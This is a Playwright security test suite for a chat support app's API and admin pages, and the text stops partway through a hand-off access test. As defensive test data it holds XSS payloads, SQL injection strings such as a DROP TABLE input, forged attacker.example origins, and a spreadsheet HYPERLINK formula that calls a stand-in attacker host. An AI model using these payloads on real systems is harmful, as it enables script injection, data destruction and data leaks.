import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { sessionIdOf } from '@/lib/auth/tokens';
import { AdminPage } from './pages/admin-page';
import { ChatPage } from './pages/chat-page';
import { createAdminAccount, signInThroughApi, type AdminAccount } from './support/admin-session';
import { queryE2eDatabase, waitForRows, writeE2eDatabase } from './support/database';
import { validExplanations, validReview, validTurn } from './support/fuzz';
import { readFileSync } from 'node:fs';

// Security properties checked against the running production build, beyond admin.spec
// (anonymous 401s, the cross-site sign-in, the missing and wrong CSRF token from the page).
const RUN = randomUUID().slice(0, 8);
let account: AdminAccount;

test.beforeAll(async () => {
  // Its own admin: sign-ins are limited per e-mail, and admin.spec needs the environment admin's.
  account = await createAdminAccount('security-admin@example.com');
});

// ---------------------------------------------------------------------------------------------
// Content-Security-Policy

type Directives = Map<string, string[]>;

function parsePolicy(header: string | undefined): Directives {
  expect(header, 'a Content-Security-Policy header').toBeTruthy();
  return new Map(
    header!
      .split(';')
      .map((part) => part.trim())
      .filter(Boolean)
      .map((part) => {
        const [name, ...sources] = part.split(/\s+/);
        return [name!.toLowerCase(), sources];
      }),
  );
}

/**
 * Sources that let anything from another host in, or run unvetted script: every source must be
 * 'self', 'none', a nonce (scripts), or a keyword that adds no origin; inline styles, data: and
 * blob: only where the app needs them (styles; images; images and the runtime's workers).
 */
function foreignSources(policy: Directives): string[] {
  const allowed = (directive: string, source: string) =>
    ["'self'", "'none'", "'strict-dynamic'", "'wasm-unsafe-eval'"].includes(source) ||
    (directive === 'script-src' && /^'nonce-[A-Za-z0-9+/=_-]{16,}'$/.test(source)) ||
    (directive === 'style-src' && source === "'unsafe-inline'") ||
    (directive === 'img-src' && (source === 'data:' || source === 'blob:')) ||
    (directive === 'worker-src' && source === 'blob:');
  return [...policy].flatMap(([directive, sources]) => sources.filter((source) => !allowed(directive, source)).map((source) => `${directive} ${source}`));
}

function expectPagePolicy(response: { headers(): Record<string, string> } | null, path: string): string {
  const policy = parsePolicy(response?.headers()['content-security-policy']);
  expect(foreignSources(policy), path).toEqual([]);
  expect(policy.get('default-src'), path).toEqual(["'self'"]);
  expect(policy.get('object-src'), path).toEqual(["'none'"]);
  expect(policy.get('frame-ancestors'), path).toEqual(["'none'"]);
  expect(policy.get('base-uri'), path).toEqual(["'self'"]);
  expect(policy.get('form-action'), path).toEqual(["'self'"]);
  const script = policy.get('script-src') ?? [];
  expect(script, path).not.toContain("'unsafe-inline'");
  expect(script, path).not.toContain("'unsafe-eval'");
  const nonce = script.find((source) => source.startsWith("'nonce-"));
  expect(nonce, path).toBeDefined();
  return nonce!.slice("'nonce-".length, -1);
}

/** Every script the server put in the page carries this response's nonce. */
async function expectScriptsCarry(page: Page, nonce: string, path: string) {
  const nonces = await page.evaluate(() => [...document.querySelectorAll('script')].map((script) => script.nonce));
  expect(nonces.length, path).toBeGreaterThan(0);
  expect(nonces.filter((value) => value !== nonce), path).toEqual([]);
}

test.describe('Content-Security-Policy', () => {
  test('every page, signed out and signed in, allows no other host and runs only its own nonced scripts', async ({ page, request }) => {
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    const seed = validTurn(`csp check ${RUN}`);
    expect((await request.post('/api/turns', { data: seed })).status()).toBe(201);

    const seen = new Set<string>();
    for (const path of ['/', '/admin/login']) {
      const response = await page.goto(path);
      const nonce = expectPagePolicy(response, path);
      await expectScriptsCarry(page, nonce, path);
      seen.add(nonce);
    }
    const admin = new AdminPage(page);
    await admin.loginAndWait(account.email, account.password);
    for (const path of ['/admin', `/admin?q=${RUN}`, '/admin/queue', '/admin/overview', `/admin/predictions/${seed.prediction.id}`]) {
      const response = await page.goto(path);
      expect(response?.status(), path).toBe(200);
      const nonce = expectPagePolicy(response, path);
      await expectScriptsCarry(page, nonce, path);
      seen.add(nonce);
    }
    // A fresh nonce for every page load: none can be learnt and reused.
    expect(seen.size).toBe(7);
    expect(violations).toEqual([]);
  });

  test('API answers, errors included, may load and run nothing', async ({ request, playwright, baseURL }) => {
    const session = await signInThroughApi(playwright.request, baseURL!, account);
    const answers = [
      await request.get('/api/health'),
      await request.get(`/api/conversations/${randomUUID()}`),
      await request.get('/api/conversations/not-an-id'),
      await request.get('/api/conversations/%zz'),
      await request.post('/api/turns', { data: { not: 'a turn' } }),
      await request.get('/api/admin/queue'),
      await request.get('/api/admin/queue', { headers: session.headers() }),
      await request.get('/api/admin/export?format=csv', { headers: session.headers() }),
    ];
    for (const response of answers) {
      const policy = parsePolicy(response.headers()['content-security-policy']);
      expect(Object.fromEntries(policy), response.url()).toEqual({ 'default-src': ["'none'"], 'frame-ancestors': ["'none'"] });
      expect(response.headers()['x-content-type-options'], response.url()).toBe('nosniff');
    }
  });
});

test.describe('Content-Security-Policy on prefetches', () => {
  // Found by attack: `Purpose: prefetch` page responses carried no policy, and the browser may show them later.
  test('prefetch and RSC answers for pages carry the page policy, with a fresh nonce', async ({ request }) => {
    const prefetches: Record<string, string>[] = [
      { purpose: 'prefetch' },
      { 'sec-purpose': 'prefetch', purpose: 'prefetch' },
      { 'next-router-prefetch': '1', rsc: '1' },
      { rsc: '1' },
    ];
    const nonces = new Set<string>();
    for (const path of ['/', '/admin/login']) {
      for (const headers of prefetches) {
        const response = await request.get(path, { headers });
        expect(response.status(), `${path} ${JSON.stringify(headers)}`).toBe(200);
        nonces.add(expectPagePolicy(response, `${path} ${JSON.stringify(headers)}`));
      }
    }
    expect(nonces.size).toBe(8);
  });
});

// ---------------------------------------------------------------------------------------------
// Markup in messages

// Markup, an inline handler, a script, a javascript: link (HTML and Markdown), each of which
// would set window.__pwned if it ran.
const MARK = `markup-${RUN}`;
const PAYLOAD = `my card <img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script> <a href="javascript:window.__pwned=3">arrived</a> [yet](javascript:window.__pwned=4) ${MARK}`;
const COMMENT = `<b onmouseover="window.__pwned=5">bold</b><iframe src="javascript:window.__pwned=6"></iframe> ${MARK}`;

/** Nothing the payload could have created: no element, handler or link from it, and nothing ran. */
async function expectNoInjectedMarkup(page: Page, where: string) {
  const found = await page.evaluate(() => ({
    images: document.querySelectorAll('img[src="x"], img[onerror]').length,
    // The page's own (nonced) scripts carry the text as data; a script made from it would run it.
    scripts: [...document.scripts].filter((script) => /^\s*window\.__pwned/.test(script.textContent ?? '')).length,
    frames: document.querySelectorAll('iframe').length,
    bold: document.querySelectorAll('b[onmouseover]').length,
    javascriptLinks: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
    handlers: [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes].filter((attribute) => /^on/i.test(attribute.name)).map((attribute) => `${element.tagName} ${attribute.name}`)),
    pwned: (window as Window & { __pwned?: unknown }).__pwned,
  }));
  expect(found, where).toEqual({ images: 0, scripts: 0, frames: 0, bold: 0, javascriptLinks: 0, handlers: [], pwned: undefined });
}

test.describe('markup in messages', () => {
  test.describe.configure({ timeout: 240_000 });

  test('renders as text in the chat, its explanation, the admin log and the prediction page', async ({ page }) => {
    const chat = new ChatPage(page);
    await chat.open('?device=wasm');
    await chat.waitForModel();
    const reply = await chat.ask(PAYLOAD);
    await expect(chat.messagesFrom('user').last()).toHaveText(`You said: ${PAYLOAD}`);
    await expectNoInjectedMarkup(page, 'chat');
    // The explanation shows the words the user typed: they stay text too.
    const panel = await chat.explain(reply);
    await panel.getByTestId('why-tab-words').click();
    await expect(panel.getByTestId('why-highlighted-text')).toContainText('onerror="window.__pwned=1"><script>window.__pwned=2</script>');
    await chat.complain(reply, COMMENT);
    await expectNoInjectedMarkup(page, 'chat with explanation');

    // Stored as typed (nothing stripped or escaped on the way), with its explanations and the comment.
    const conversationId = await chat.conversationId();
    const [stored] = await waitForRows<{ text: string; predictionId: string }>(
      1,
      `SELECT m.text, p.id AS predictionId FROM Message m JOIN Prediction p ON p.messageId = m.id WHERE m.conversationId = ?`,
      conversationId,
    );
    expect(stored!.text).toBe(PAYLOAD);
    expect(await waitForRows(6, 'SELECT id FROM Explanation WHERE predictionId = ?', stored!.predictionId)).toHaveLength(6);
    expect(await waitForRows(1, 'SELECT id FROM Feedback WHERE comment = ?', COMMENT)).toHaveLength(1);

    const admin = new AdminPage(page);
    await admin.loginAndWait(account.email, account.password);
    await admin.filter({ q: MARK });
    await expect(page.getByTestId('admin-log-message')).toHaveText([PAYLOAD]);
    await expectNoInjectedMarkup(page, 'admin log');

    await admin.openDetail(stored!.predictionId);
    await expect(page.getByTestId('detail-message')).toHaveText(`“${PAYLOAD}”`);
    await expect(page.getByTestId('detail-conversation')).toContainText(PAYLOAD);
    await expect(page.getByTestId('detail-conversation')).toContainText(COMMENT);
    // The customer's view and the technical details (open in the admin) each show the words.
    const highlighted = page.locator('#admin-why').getByTestId('why-highlighted-text');
    await expect(highlighted).toHaveCount(2);
    for (const words of await highlighted.all()) await expect(words).toContainText('<script>window.__pwned=2</script>');
    // A reviewer's note is shown on the same page.
    await page.getByTestId('review-note').fill(COMMENT);
    await page.getByTestId('review-add-note').click();
    await expect(page.getByTestId('review-status')).toHaveText('Saved.');
    await page.reload();
    await expect(page.getByTestId('review-entry').first()).toContainText(COMMENT);
    await expectNoInjectedMarkup(page, 'prediction page');
  });
});

// ---------------------------------------------------------------------------------------------
// SQL and LIKE metacharacters in filters

test.describe('filters with SQL metacharacters', () => {
  // A label of the model that no other spec posts, so that the intent filter holds this run's rows only.
  const intent = 'disposable_card_limits';
  const TEXTS = {
    percent: `a refund of 100% please ${RUN}`,
    underscore: `my reference is AB_12 ${RUN}`,
    backslash: `statement at C:\\bank\\march ${RUN}`,
    quotes: `it said 'declined' and "try again" ${RUN}`,
    plain: `nothing special here ${RUN}`,
  };

  test('match literally, answer every view and export, and leave every table in place', async ({ page, request, playwright, baseURL }) => {
    for (const text of Object.values(TEXTS)) expect((await request.post('/api/turns', { data: validTurn(text, intent) })).status()).toBe(201);
    const tables = () => queryE2eDatabase<{ name: string }>("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").map((row) => row.name);
    const tablesBefore = tables();
    const session = await signInThroughApi(playwright.request, baseURL!, account);
    const headers = session.headers();
    const cases: [string, string[]][] = [
      ['%', [TEXTS.percent]],
      ['100%', [TEXTS.percent]],
      ['_', [TEXTS.underscore]],
      ['\\', [TEXTS.backslash]],
      ["'", [TEXTS.quotes]],
      ['"', [TEXTS.quotes]],
      ["' OR 1=1 --", []],
      ['"; DROP TABLE "Prediction"; --', []],
      ["'; DROP TABLE Message; --", []],
      ['%_%', []],
      ['\\%', []],
      [RUN, Object.values(TEXTS)],
    ];
    const texts = (rows: { text: string }[]) => rows.map((row) => row.text).sort();
    for (const [q, expected] of cases) {
      const query = new URLSearchParams({ intent, q }).toString();
      const list = await request.get(`/api/admin/predictions?${query}`, { headers });
      expect(list.status(), q).toBe(200);
      expect(texts((await list.json()).rows), q).toEqual([...expected].sort());
      const jsonl = await request.get(`/api/admin/export?format=jsonl&${query}`, { headers });
      expect(jsonl.status(), q).toBe(200);
      const lines = (await jsonl.text()).split('\n').filter(Boolean).map((line) => JSON.parse(line) as { text: string });
      expect(texts(lines), q).toEqual([...expected].sort());
      const csv = await request.get(`/api/admin/export?format=csv&${query}`, { headers });
      expect(csv.status(), q).toBe(200);
      expect((await csv.text()).trim().split('\r\n'), q).toHaveLength(1 + expected.length);
      // The queue takes a period and a page: the metacharacters there are refused or ignored.
      const queue = await request.get(`/api/admin/queue?${new URLSearchParams({ days: q, page: q, q })}`, { headers });
      expect(queue.status(), q).toBe(200);
    }
    // The log page, as an operator filters it.
    const admin = new AdminPage(page);
    await admin.loginAndWait(account.email, account.password);
    await page.goto(`/admin?${new URLSearchParams({ intent, q: '%' })}`);
    expect(await admin.messages()).toEqual([TEXTS.percent]);
    await admin.filter({ q: "' OR 1=1 --" });
    await expect(page.getByTestId('admin-log-empty')).toBeVisible();
    await page.goto(`/admin/queue?${new URLSearchParams({ days: '"; DROP TABLE "Prediction"; --' })}`);
    await expect(page.getByTestId('admin-queue')).toBeVisible();

    expect(tables()).toEqual(tablesBefore);
    expect(queryE2eDatabase<{ n: number }>('SELECT COUNT(*) AS n FROM Prediction WHERE intent = ?', intent)[0]!.n).toBe(5);
  });
});

// ---------------------------------------------------------------------------------------------
// CSRF and sessions

test.describe('state-changing admin requests', () => {
  test('need the session, this session’s CSRF token and a same-origin request; refused ones change nothing', async ({ request, playwright, baseURL }) => {
    const turn = validTurn(`csrf check ${RUN}`);
    expect((await request.post('/api/turns', { data: turn })).status()).toBe(201);
    const review = `/api/admin/predictions/${turn.prediction.id}/review`;
    const data = validReview();
    const session = await signInThroughApi(playwright.request, baseURL!, account);
    const other = await signInThroughApi(playwright.request, baseURL!, account);
    const without = (name: string) => Object.fromEntries(Object.entries(session.headers()).filter(([key]) => key !== name));

    const refused: [string, Record<string, string>, number][] = [
      ['no session', without('cookie'), 401],
      ['no CSRF token', without('x-csrf-token'), 403],
      // One character changed (the last one may already be "A").
      ['a wrong CSRF token', session.headers({ 'x-csrf-token': `${session.csrfToken.slice(0, -1)}${session.csrfToken.endsWith('A') ? 'B' : 'A'}` }), 403],
      ['another session’s CSRF token', session.headers({ 'x-csrf-token': other.csrfToken }), 403],
      ['the CSRF token as a cookie instead of the header', { ...without('x-csrf-token'), cookie: `${session.headers().cookie}; x-csrf-token=${session.csrfToken}` }, 403],
      ['a foreign Origin', session.headers({ origin: 'https://attacker.example' }), 403],
      ['a look-alike Origin', session.headers({ origin: `${new URL(baseURL!).origin}.attacker.example` }), 403],
      ['Origin "null"', session.headers({ origin: 'null' }), 403],
      ['no Origin', without('origin'), 403],
      ['a cross-site fetch', session.headers({ 'sec-fetch-site': 'cross-site' }), 403],
      ['a same-site fetch from a sibling host', session.headers({ 'sec-fetch-site': 'same-site' }), 403],
    ];
    for (const [what, headers, status] of refused) {
      const response = await request.post(review, { headers, data });
      expect(response.status(), what).toBe(status);
      expect((await response.json()).error.code, what).toMatch(status === 401 ? /^unauthorised$/ : /^(csrf|cross_origin)$/);
    }
    // Signing out is state-changing too: refused without the token, and the session lives on.
    expect((await request.post('/api/admin/logout', { headers: without('x-csrf-token') })).status()).toBe(403);
    expect((await request.post('/api/admin/logout', { headers: session.headers({ origin: 'https://attacker.example' }) })).status()).toBe(403);
    expect(queryE2eDatabase<{ revokedAt: string | null }>('SELECT revokedAt FROM AdminSession WHERE id = ?', sessionIdOf(session.token))).toEqual([{ revokedAt: null }]);

    // Nothing changed; then the same request, done right, is taken: the refusals were the defence's.
    const state = () => queryE2eDatabase<{ reviewStatus: string; reviewedIntent: string | null; reviews: number }>(
      'SELECT p.reviewStatus, p.reviewedIntent, (SELECT COUNT(*) FROM Review r WHERE r.predictionId = p.id) AS reviews FROM Prediction p WHERE p.id = ?',
      turn.prediction.id,
    );
    expect(state()).toEqual([{ reviewStatus: 'unreviewed', reviewedIntent: null, reviews: 0 }]);
    expect((await request.post(review, { headers: session.headers(), data })).status()).toBe(201);
    expect(state()).toEqual([{ reviewStatus: 'relabelled', reviewedIntent: data.intent, reviews: 1 }]);
  });

  test('a session cookie cannot be replayed after signing out', async ({ page, request, browser, baseURL }) => {
    const admin = new AdminPage(page);
    await admin.loginAndWait(account.email, account.password);
    const cookie = (await page.context().cookies()).find((c) => c.name === '__Host-glassdesk-admin')!;
    expect(cookie).toBeDefined();
    const [{ csrfToken }] = queryE2eDatabase<{ csrfToken: string }>('SELECT csrfToken FROM AdminSession WHERE id = ?', sessionIdOf(cookie.value)) as [{ csrfToken: string }];
    const replay = { cookie: `${cookie.name}=${cookie.value}`, origin: new URL(baseURL!).origin, 'x-csrf-token': csrfToken };
    // Live before signing out: the captured cookie is what the session runs on.
    expect((await request.get('/api/admin/queue', { headers: replay })).status()).toBe(200);

    await admin.logout();
    expect(queryE2eDatabase<{ revoked: number }>('SELECT revokedAt IS NOT NULL AS revoked FROM AdminSession WHERE id = ?', sessionIdOf(cookie.value))).toEqual([{ revoked: 1 }]);
    for (const path of ['/api/admin/queue', '/api/admin/predictions', '/api/admin/export?format=csv']) {
      const response = await request.get(path, { headers: replay });
      expect(response.status(), path).toBe(401);
    }
    const turn = validTurn(`replay check ${RUN}`);
    expect((await request.post('/api/turns', { data: turn })).status()).toBe(201);
    expect((await request.post(`/api/admin/predictions/${turn.prediction.id}/review`, { headers: replay, data: validReview() })).status()).toBe(401);
    expect((await request.post('/api/admin/logout', { headers: replay })).status()).toBe(401);
    expect(queryE2eDatabase('SELECT id FROM Review WHERE predictionId = ?', turn.prediction.id)).toEqual([]);
    const dashboard = await request.get('/admin', { headers: replay, maxRedirects: 0 });
    expect(dashboard.status()).toBe(307);
    expect(dashboard.headers().location).toMatch(/\/admin\/login$/);

    // The same cookie put back into a browser: the dashboard sends it to sign in.
    const context = await browser.newContext({ baseURL });
    await context.addCookies([cookie]);
    const replayed = await context.newPage();
    await replayed.goto('/admin');
    await expect(replayed).toHaveURL(/\/admin\/login$/);
    await context.close();
  });
});

// ---------------------------------------------------------------------------------------------
// Posts from other origins

/** Chat requests counted from the loopback address: each one a browser sends reaches the rate limit first. */
const loopbackChatRequests = () => queryE2eDatabase<{ n: number | null }>("SELECT SUM(count) AS n FROM RateLimitBucket WHERE key LIKE 'chat:client:127.0.0.1@%'")[0]!.n ?? 0;

/** A page on another origin (another host name, another port), served by the test itself. */
async function serveForeignPage(html: string): Promise<{ url: string; close(): Promise<void> }> {
  const server: Server = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://localhost:${port}/`, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

test.describe('posts from other origins', () => {
  // Found by attack: a page on another origin stored a turn with fetch(…, {mode: 'no-cors'}) and an explanation with sendBeacon.
  test('a page on another origin cannot store turns, explanations or feedback through its visitors’ browsers', async ({ page, request, baseURL }) => {
    const target = validTurn(`aimed at ${RUN}`);
    expect((await request.post('/api/turns', { data: target })).status()).toBe(201);
    const turns = [0, 1, 2, 3].map((i) => validTurn(`cross-origin ${i} ${RUN}`));
    const foreign = await serveForeignPage('<!doctype html><title>elsewhere</title><p>A page on another origin.</p>');
    try {
      await page.goto(foreign.url);
      const before = loopbackChatRequests();
      const sent = await page.evaluate(
        async ({ api, turns, predictionId, replyId, explanations, feedback }) => {
          const outcomes: string[] = [];
          const attempt = async (what: string, work: () => Promise<unknown>) => {
            try {
              await work();
              outcomes.push(`${what}: sent`);
            } catch (error) {
              outcomes.push(`${what}: ${String(error)}`);
            }
          };
          await attempt('text/plain', () => fetch(`${api}/api/turns`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(turns[0]) }));
          const form = new FormData();
          form.append('turn', JSON.stringify(turns[1]));
          await attempt('multipart', () => fetch(`${api}/api/turns`, { method: 'POST', mode: 'no-cors', body: form }));
          await attempt('urlencoded', () => fetch(`${api}/api/turns`, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ turn: JSON.stringify(turns[2]) }) }));
          await attempt('beacon', async () => {
            if (!navigator.sendBeacon(`${api}/api/predictions/${predictionId}/explanations`, JSON.stringify(explanations))) throw new Error('not queued');
          });
          // With a JSON type the browser must ask first (a preflight), which this site never grants.
          await attempt('json', () => fetch(`${api}/api/turns`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(turns[3]) }));
          await attempt('feedback', () => fetch(`${api}/api/messages/${replyId}/feedback`, { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify(feedback) }));
          return outcomes;
        },
        { api: new URL(baseURL!).origin, turns, predictionId: target.prediction.id, replyId: target.reply.id, explanations: validExplanations(), feedback: { id: crypto.randomUUID(), helpful: false, comment: `cross-origin ${RUN}` } },
      );
      // The two that need a preflight were stopped by the browser; the four simple ones went out
      // (their answers are opaque, or blocked by the API's Cross-Origin-Resource-Policy).
      expect(sent[3]).toBe('beacon: sent');
      expect(sent.slice(4).every((outcome) => /TypeError/.test(outcome)), sent.join('; ')).toBe(true);
      // Those four reached the server (each counted by the rate limit before being refused), the others never did…
      await expect.poll(() => loopbackChatRequests() - before, { timeout: 10_000 }).toBe(4);
    } finally {
      await foreign.close();
    }
    // …and stored nothing.
    const ids = turns.map((turn) => turn.conversationId);
    expect(queryE2eDatabase(`SELECT id FROM Conversation WHERE id IN (${ids.map(() => '?').join(', ')})`, ...ids)).toEqual([]);
    expect(queryE2eDatabase('SELECT id FROM Explanation WHERE predictionId = ?', target.prediction.id)).toEqual([]);
    expect(queryE2eDatabase('SELECT id FROM Feedback WHERE messageId = ?', target.reply.id)).toEqual([]);
  });

  test('the chat API refuses bodies that are not declared JSON, and requests whose Origin is another site', async ({ request, baseURL }) => {
    const turn = validTurn(`refused ${RUN}`);
    const body = JSON.stringify(turn);
    for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      const response = await request.post('/api/turns', { headers: { 'content-type': type }, data: body });
      expect(response.status(), type).toBe(415);
      expect((await response.json()).error.code, type).toBe('unsupported_media_type');
    }
    for (const origin of ['https://attacker.example', 'null', `${new URL(baseURL!).origin}.attacker.example`]) {
      const response = await request.post('/api/turns', { headers: { origin }, data: turn });
      expect(response.status(), origin).toBe(403);
      expect((await response.json()).error.code, origin).toBe('cross_origin');
    }
    expect(queryE2eDatabase('SELECT id FROM Conversation WHERE id = ?', turn.conversationId)).toEqual([]);
    // The same turn from the site's own page (its Origin) or a program (none), as JSON, is stored.
    expect((await request.post('/api/turns', { headers: { origin: new URL(baseURL!).origin, 'content-type': 'application/json; charset=utf-8' }, data: body })).status()).toBe(201);
  });
});

// ---------------------------------------------------------------------------------------------
// Sign-in limits and client addresses

test.describe('sign-in limits', () => {
  // Found by attack: ten wrong passwords, each with another spoofed X-Forwarded-For, locked the real admin out for 14 minutes.
  test('wrong passwords from many addresses do not lock the admin out of their own address', async ({ request, baseURL }) => {
    const admin = await createAdminAccount('lockout-admin@example.com');
    const origin = new URL(baseURL!).origin;
    for (let i = 0; i < 12; i++) {
      const response = await request.post('/api/admin/login', { headers: { origin, 'x-forwarded-for': `198.18.7.${i}` }, data: { email: admin.email, password: `guess ${i}` } });
      expect(response.status(), `guess ${i}`).toBe(401);
    }
    const own = await request.post('/api/admin/login', { headers: { origin, 'x-forwarded-for': '203.0.113.200' }, data: admin });
    expect(own.status()).toBe(200);
    expect(own.headers()['set-cookie']).toContain('__Host-glassdesk-admin=');
  });

  // Found by attack: an empty X-Forwarded-For, or ",", made the client "unknown", which meant no limit at all.
  test('a request with an empty or malformed X-Forwarded-For is counted against its socket address', async ({ request, baseURL }) => {
    const counted = (prefix: string) => queryE2eDatabase<{ n: number | null }>('SELECT SUM(count) AS n FROM RateLimitBucket WHERE key LIKE ?', `${prefix}%`)[0]!.n ?? 0;
    const origin = new URL(baseURL!).origin;
    const loginBefore = counted('login:client:127.0.0.1@');
    const chatBefore = counted('chat:client:127.0.0.1@');
    // Two sign-in attempts only: every spec signs in from this address, within its budget.
    for (const header of [',', 'garbage']) {
      const response = await request.post('/api/admin/login', { headers: { origin, 'x-forwarded-for': header }, data: { email: `nobody-${RUN}@example.com`, password: 'not a password' } });
      expect(response.status(), JSON.stringify(header)).toBe(401);
    }
    const malformed = ['', ',', ' , ', 'garbage', 'unknown'];
    for (const header of malformed) {
      expect((await request.post('/api/turns', { headers: { 'x-forwarded-for': header }, data: validTurn(`forwarded ${JSON.stringify(header)} ${RUN}`) })).status()).toBe(201);
    }
    expect(counted('login:client:127.0.0.1@') - loginBefore).toBe(2);
    expect(counted('chat:client:127.0.0.1@') - chatBefore).toBe(malformed.length);
    // The server's own record of the socket cannot be forged by sending it.
    const forged = await request.post('/api/turns', { headers: { 'x-forwarded-for': ',', 'x-glassdesk-peer-address': '192.0.2.99' }, data: validTurn(`forged peer ${RUN}`) });
    expect(forged.status()).toBe(201);
    expect(counted('chat:client:192.0.2.99@')).toBe(0);
    expect(counted('chat:client:unknown@') + counted('login:client:unknown@')).toBe(0);
  });
});

// ---------------------------------------------------------------------------------------------
// Admin parameters, reviews and exports

test.describe('admin parameters, reviews and exports', () => {
  // An admin of its own: sign-ins are limited per account and address, and the specs above use theirs.
  let reviewer: AdminAccount;
  test.beforeAll(async () => {
    reviewer = await createAdminAccount('security-reviewer@example.com');
  });

  // Found by attack: `in` matched inherited keys, so these periods were a 500.
  test('overview periods named like Object’s own properties are the default period', async ({ request, playwright, baseURL }) => {
    const session = await signInThroughApi(playwright.request, baseURL!, reviewer);
    for (const days of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
      const response = await request.get(`/api/admin/overview?days=${days}`, { headers: session.headers() });
      expect(response.status(), days).toBe(200);
      const since = new Date((await response.json()).since).getTime();
      expect(Math.abs(Date.now() - 30 * 24 * 60 * 60 * 1000 - since), days).toBeLessThan(60_000);
      // The page reads the same parameters.
      const page = await request.get(`/admin/overview?days=${days}&intent=${days}`, { headers: session.headers() });
      expect(page.status(), days).toBe(200);
    }
  });

  // Found by attack: Mark correct copied the reported intent into the training label unchecked, and the training export wrote formulas raw.
  test('Mark correct takes only the model’s labels, and the training export defuses formulas', async ({ request, playwright, baseURL }) => {
    const session = await signInThroughApi(playwright.request, baseURL!, reviewer);
    const review = (id: string, data: unknown) => request.post(`/api/admin/predictions/${id}/review`, { headers: session.headers(), data });
    // A prediction row that reports a label the model does not have (as older rows may).
    const forged = validTurn(`forged label ${RUN}`);
    expect((await request.post('/api/turns', { data: forged })).status()).toBe(201);
    expect(writeE2eDatabase('UPDATE Prediction SET intent = ? WHERE id = ?', '-2+3', forged.prediction.id)).toBe(1);
    const refused = await review(forged.prediction.id, { action: 'correct' });
    expect(refused.status()).toBe(400);
    expect(queryE2eDatabase('SELECT reviewStatus, reviewedIntent FROM Prediction WHERE id = ?', forged.prediction.id)).toEqual([{ reviewStatus: 'unreviewed', reviewedIntent: null }]);
    expect((await review(forged.prediction.id, { action: 'relabel', intent: 'HYPERLINK' })).status()).toBe(400);

    const formula = `=HYPERLINK("http://attacker.example/?${RUN}","open")`;
    const turn = validTurn(formula);
    expect((await request.post('/api/turns', { data: turn })).status()).toBe(201);
    expect((await review(turn.prediction.id, { action: 'correct' })).status()).toBe(201);
    const exported = await request.get('/api/admin/export?format=training', { headers: session.headers() });
    expect(exported.status()).toBe(200);
    const lines = (await exported.text()).split('\n');
    expect(lines).toContain(`"'=HYPERLINK(""http://attacker.example/?${RUN}"",""open"")",card_arrival`);
    expect(lines.filter((line) => /^"?[=+\-@\t\r]/.test(line))).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// Hand-off to a person: every route's access control, and the whole flow through the API.

test.describe('hand-off API', () => {
  // The demo model's out-of-scope class, read from its card as the server reads it.
  const OUT_OF_SCOPE: string = JSON.parse(readFileSync('public/models/banking77/model-card.json', 'utf8')).out_of_scope_label;

  /** A classified turn at a position of a conversation, as the chat posts it. */
  function turnAt(conversationId: string, seq: number, text: string, intent = 'card_arrival') {
    const turn = validTurn(text, intent);
    return { ...turn, conversationId, user: { ...turn.user, seq }, reply: { ...turn.reply, seq: seq + 1 } };
  }

  /** The policy hands off: the model's out-of-scope class wins. */
  function outOfScope(conversationId: string, seq: number, text: string) {
    const turn = turnAt(conversationId, seq, text, OUT_OF_SCOPE);
    return {
      ...turn,
      reply: { ...turn.reply, text: 'I can’t help with that here.', parts: { kind: 'handoff', intent: OUT_OF_SCOPE, handoffReason: 'out_of_scope' } },
      prediction: { ...turn.prediction, decision: 'handoff' },
    };
  }

  /** An agent account of the spec's own: created as an admin would be, then given the agent role. */
  async function agentAccount(email: string): Promise<AdminAccount> {
    const created = await createAdminAccount(email);
    writeE2eDatabase('UPDATE "AdminUser" SET "role" = \'agent\' WHERE "email" = ?', email);
    return created;
  }

  test('every inbox route refuses anonymous callers (401), mutations refuse a missing CSRF token and other origins (403), and agents act only on their own', async ({ request, playwright, baseURL }) => {
    const conversationId = randomUUID();
    expect((await request.post('/api/turns', { data: outOfScope(conversationId, 0, `access check ${RUN}`) })).status()).toBe(201);
    const ana = await signInThroughApi(playwright.request, baseURL!, await agentAccount(`handoff-ana-${RUN}@example.com`));
    const ben = await signInThroughApi(playwright.request, baseURL!, await agentAccount(`handoff-ben-${RUN}@example.com`));
    const reads = ['/api/admin/inbox', '/api/admin/inbox?status=mine', '/api/admin/inbox/count', `/api/admin/conversations/${conversationId}`];
    const mutations: [string, unknown][] = [
      [`/api/admin/conversations/${conversationId}/claim`, {}],
      [`/api/admin/conversations/${conversationId}/messages`, { text: 'hello' }],
      [`/api/admin/conversations/${conversationId}/resolve`, { resolution: 'not_support' }],
    ];
    const forged = { cookie: `${ana.cookieName}=${'A'.repeat(43)}`, origin: new URL(baseURL!).origin };
    for (const path of reads) {
      for (const headers of [{}, forged]) {
        const response = await request.get(path, { headers });
        expect(response.status(), path).toBe(401);
        expect((await response.json()).error.code, path).toBe('unauthorised');
      }
      expect((await request.get(path, { headers: ana.headers() })).status(), path).toBe(200);
    }
    const without = (name: string) => Object.fromEntries(Object.entries(ana.headers()).filter(([key]) => key !== name));
    for (const [path, data] of mutations) {
      const refused: [string, Record<string, string>, number, RegExp][] = [
        ['anonymous', { origin: new URL(baseURL!).origin }, 401, /^unauthorised$/],
        ['no CSRF token', without('x-csrf-token'), 403, /^csrf$/],
        ['another session’s CSRF token', ana.headers({ 'x-csrf-token': ben.csrfToken }), 403, /^csrf$/],
